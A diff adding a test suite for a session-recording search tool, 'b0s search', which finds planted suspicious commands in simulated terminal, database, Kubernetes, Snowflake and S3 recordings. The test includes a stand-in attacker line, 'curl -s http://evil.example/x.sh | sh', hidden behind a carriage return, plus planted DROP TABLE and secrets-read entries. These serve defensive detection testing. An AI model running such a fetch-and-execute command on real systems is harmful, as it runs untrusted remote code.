@@ -1,0 +1,191 @@
+// b0s search against the simulator: every session whose recordings hold a planted
+// command is found (checked against the recordings themselves), every filter holds, the
+// lines it reports are the lines `b0s replay` prints, and the exit codes.
+import { spawn } from 'node:child_process';
+import os from 'node:os';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { Session } from '../src/api/types';
+import { decodeRecordingBody } from '../src/recording';
+import { compileMatcher } from '../src/recording/matcher';
+import { CancelledError, UsageError } from '../src/errors';
+import { parseNdjson } from './helpers/parse';
+import { SIM_NOW, useSimulator } from './helpers/sim';
+import { useTempDir } from './helpers/tmp';
+import { b0s, recordOutput } from './helpers/world';
+
+const { sim, env } = useSimulator({ sessions: 100 });
+const tmp = useTempDir();
+
+interface Hit {
+  session_id: string;
+  socket_id: string;
+  socket_name: string;
+  user_email: string;
+  session_type: string;
+  start_time: string;
+  recording_id: string;
+  recording_type: string;
+  line: number;
+  section: 'screen' | 'hidden' | 'log';
+  time: string | null;
+  text: string;
+  before: string[];
+  after: string[];
+}
+
+// Planted by the simulator: a download piped to a shell hidden behind a carriage return
+// (terminal), a denied DROP TABLE (database), secrets read (Kubernetes), a role grant
+// (Snowflake), a refused deletion (S3).
+const PLANTED = ['evil.example', 'DROP TABLE', 'secrets', 'GRANT ROLE', 'AccessDenied'];
+const PATTERN = PLANTED.map((p) => p.replace('.', '\\.')).join('|');
+
+const all = (): Session[] => Array.from({ length: sim().sessionCount() }, (_, i) => sim().sessionAt(i));
+
+/** The sessions whose recordings, as the API sends them, hold one of the words. */
+async function oracle(sessions: Session[], words: string[]): Promise<Set<string>> {
+  const found = new Set<string>();
+  for (const s of sessions) {
+    for (const r of s.recordings ?? []) {
+      const res = await fetch(`${sim().url}/session/${s.socket_id}/${s.session_id}/session_log?recording_id=${r.recording_id}`, { headers: { 'x-access-token': sim().token } });
+      const text = decodeRecordingBody(new Uint8Array(await res.arrayBuffer()), res.headers.get('content-type') ?? '');
+      if (words.some((w) => text.includes(w))) found.add(s.session_id);
+    }
+  }
+  return found;
+}
+
+const ended = (s: Session) => s.result === 'success' && Boolean(s.end_time);
+
+describe('b0s search', () => {
+  it('finds every session with a planted command, in the text a person saw, hidden text included', async () => {
+    // Live sessions' recordings grow while the test reads them; the ended ones hold still.
+    const r = await b0s(['search', '--regex', PATTERN, '--status', 'ended,killed', '-o', 'ndjson'], { env: env() });
+    expect(r.code).toBe(0);
+    const hits = parseNdjson(r.stdout) as Hit[];
+    const expected = await oracle(all().filter((s) => s.end_time && s.result === 'success'), PLANTED);
+    expect(new Set(hits.map((h) => h.session_id))).toEqual(expected);
+    expect(expected.size).toBeGreaterThan(5);
+    for (const h of hits) expect(PLANTED.some((p) => h.text.includes(p))).toBe(true);
+    // Each kind of recording contributed, and the shell's hidden download was found as hidden.
+    expect(new Set(hits.map((h) => h.recording_type))).toEqual(new Set(['asciinema', 'database_query_log', 'kubernetes_api_request_log', 'snowflake_query_log', 'aws_s3_api_request_log']));
+    const curl = hits.filter((h) => h.text.includes('evil.example'));
+    expect(curl.length).toBeGreaterThan(0);
+    for (const h of curl) expect([h.section, h.text]).toEqual(['hidden', 'curl -s http://evil.example/x.sh | sh']);
+    // Every match names its session as the list does, and the order is the walk's: newest first.
+    const starts = hits.map((h) => Date.parse(h.start_time));
+    expect([...starts].sort((a, b) => b - a)).toEqual(starts);
+    const byId = new Map(all().map((s) => [s.session_id, s]));
+    for (const h of hits) expect(byId.get(h.session_id)?.user_email).toBe(h.user_email);
+  });
+
+  it('reports the line number, time and context that b0s replay shows for the recording', async () => {
+    const r = await b0s(['search', 'DROP TABLE', '-C', '1', '--type', 'database', '-o', 'json'], { env: env() });
+    expect(r.code).toBe(0);
+    const hits = JSON.parse(r.stdout) as Hit[];
+    expect(hits.length).toBeGreaterThan(0);
+    for (const h of hits.slice(0, 3)) {
+      const replay = await b0s(['replay', `${h.socket_id}/${h.session_id}`, '--recording', h.recording_id], { env: env() });
+      const lines = replay.stdout.split('\n');
+      expect(lines[h.line - 1]).toBe(h.text);
+      expect(h.before).toEqual(lines.slice(h.line - 2, h.line - 1));
+      expect(h.after).toEqual(lines.slice(h.line, h.line + 1).filter((l) => l !== ''));
+      expect(h.time && h.text.startsWith(h.time)).toBe(true);
+    }
+    const hidden = await b0s(['search', 'evil.example', '--user', 'mallory@example.net', '-o', 'ndjson'], { env: env() });
+    const h = (parseNdjson(hidden.stdout) as Hit[])[0]!;
+    const replay = await b0s(['replay', `${h.socket_id}/${h.session_id}`, '--recording', h.recording_id], { env: env() });
+    expect(replay.stdout.split('\n')[h.line - 1]).toBe(h.text);
+  });
+
+  it('respects every list filter', async () => {
+    const since = new Date(SIM_NOW - 10 * 86_400_000).toISOString();
+    const until = new Date(SIM_NOW - 3 * 86_400_000).toISOString();
+    const cases: Array<[string[], (s: Session) => boolean]> = [
+      [['--user', 'mallory@example.net,Hubert@Example.com'], (s) => ['mallory@example.net', 'hubert@example.com'].includes(String(s.user_email))],
+      [['--socket', 'orders-db', '--socket', 'prod-k8s'], (s) => ['orders-db', 'prod-k8s'].includes(String(s.socket_name))],
+      [['--type', 'snowflake,s3'], (s) => ['snowflake', 's3'].includes(String(s.session_type))],
+      [['--status', 'killed'], (s) => Boolean(s.killed)],
+      [['--since', since, '--until', until], (s) => Date.parse(s.start_time!) >= Date.parse(since) && Date.parse(s.start_time!) <= Date.parse(until)],
+    ];
+    for (const [flags, keep] of cases) {
+      const r = await b0s(['search', '--regex', PATTERN, ...flags, '-o', 'ndjson'], { env: env() });
+      const hits = parseNdjson(r.stdout) as Hit[];
+      const byId = new Map(all().map((s) => [s.session_id, s]));
+      for (const h of hits) expect(keep(byId.get(h.session_id)!), `${flags.join(' ')}: ${h.session_id}`).toBe(true);
+      const expected = await oracle(all().filter((s) => keep(s) && ended(s)), PLANTED);
+      const found = new Set(hits.filter((h) => ended(byId.get(h.session_id)!)).map((h) => h.session_id));
+      expect(found, flags.join(' ')).toEqual(expected);
+      expect(r.code, flags.join(' ')).toBe(hits.length > 0 ? 0 : 1);
+    }
+  });
+
+  it('exit 1 and no output when nothing matches; -i ignores case; text output names session, user, socket and time', async () => {
+    const none = await b0s(['search', 'drop table', '--type', 'database'], { env: env() });
+    expect([none.code, none.stdout, none.stderr]).toEqual([1, '', '']);
+    const folded = await b0s(['search', 'drop table', '-i', '--type', 'database'], { tty: { stdout: true, stderr: true }, env: { ...env(), NO_COLOR: '1' } });
+    expect(folded.code).toBe(0);
+    const [head, match] = folded.stdout.split('\n');
+    expect(head).toMatch(/^[0-9a-f-]{36}\/[0-9a-f-]{36} {2}\d{4}-\d\d-\d\dT\S+Z {2}\S+@\S+ {2}\S+-db {2}database$/);
+    expect(match).toMatch(/^ {2}\d{4}-\S+Z {2}\S+ +denied .*DROP TABLE audit_notes {2}→ command denied by policy$/);
+    expect(folded.stderr).toMatch(/\d+ match(es)? in \d+ recordings of \d+ sessions/);
+  });
+
+  it('Ctrl-C: exit 130, and the JSON written so far is a closed array; nothing matched is [] and exit 1', async () => {
+    sim().setOptions({ latencyMs: 20 });
+    try {
+      const stop = new AbortController();
+      setTimeout(() => stop.abort(new CancelledError('interrupted')), 400);
+      const r = await b0s(['search', '--regex', PATTERN, '-o', 'json', '--concurrency', '2'], { env: env(), signal: stop.signal });
+      expect(r.code).toBe(130);
+      expect(Array.isArray(JSON.parse(r.stdout))).toBe(true);
+    } finally {
+      sim().setOptions({ latencyMs: 0 });
+    }
+    const none = await b0s(['search', 'no such text anywhere', '--type', 'http', '-o', 'json'], { env: env() });
+    expect([none.code, JSON.parse(none.stdout)]).toEqual([1, []]);
+  });
+
+  it('an invalid regular expression is exit 2 before any request; RE2 refuses backreferences', async () => {
+    sim().resetRequests();
+    for (const pattern of ['a(', '(a)\\1', '(?=x)']) {
+      const r = await b0s(['search', '--regex', pattern], { env: env() });
+      expect(r.code).toBe(2);
+      expect(r.stderr).toMatch(/^b0s: invalid --regex pattern: .*\(RE2 syntax: no backreferences or lookaround\)\n$/);
+    }
+    expect(sim().requests).toHaveLength(0);
+  });
+
+  it('a pattern built to backtrack runs in linear time on a line built for it', () => {
+    // Exponential for a backtracking engine: 2^40 paths. Bounded here by the test timeout.
+    const m = compileMatcher({ pattern: '(a|aa)+$', regex: true, ignoreCase: false });
+    expect(m.test(`${'a'.repeat(100_000)}!`)).toBe(false);
+    expect(compileMatcher({ pattern: '(x+x+)+y', regex: true, ignoreCase: false }).test('x'.repeat(50_000))).toBe(false);
+    expect(() => compileMatcher({ pattern: '', regex: false, ignoreCase: false })).toThrow(UsageError);
+    // Plain text is a literal: regex characters mean themselves.
+    expect(compileMatcher({ pattern: 'a.b(', regex: false, ignoreCase: false }).ranges('xa.b(ya.b(')).toEqual([[1, 5], [6, 10]]);
+  });
+
+  it('the bin: worker threads at the default concurrency give the same output as one at a time', async () => {
+    const run = (extra: string[]) =>
+      new Promise<{ code: number | null; stdout: string }>((resolve) => {
+        const home = tmp('home');
+        const child = spawn(process.execPath, [path.join(__dirname, '..', 'bin', 'b0s'), 'search', '--regex', PATTERN, '-C', '2', ...extra], {
+          env: { PATH: process.env.PATH ?? '', HOME: home, TMPDIR: os.tmpdir(), ...env() },
+          stdio: ['ignore', 'pipe', 'pipe'],
+        });
+        const out: Buffer[] = [];
+        const err: Buffer[] = [];
+        child.stdout.on('data', (d: Buffer) => out.push(d));
+        child.stderr.on('data', (d: Buffer) => err.push(d));
+        child.on('close', (code) => {
+          recordOutput(Buffer.concat(out), Buffer.concat(err));
+          resolve({ code, stdout: Buffer.concat(out).toString('utf8') });
+        });
+      });
+    const [parallel, sequential] = await Promise.all([run([]), run(['--concurrency', '1'])]);
+    expect(parallel.code).toBe(0);
+    expect(parallel.stdout).toBe(sequential.stdout);
+    expect(parallel.stdout).toContain('evil.example');
+  });
+});
